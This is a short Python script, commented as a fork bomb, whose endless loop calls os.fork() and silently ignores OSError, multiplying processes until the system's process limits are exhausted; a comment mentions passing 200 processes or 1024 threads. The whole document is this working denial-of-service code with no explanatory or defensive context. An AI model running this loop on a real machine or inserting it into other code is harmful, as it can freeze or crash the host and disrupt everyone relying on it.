# story: had more than (200 processes|1024 threads)
# a fork bomb
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
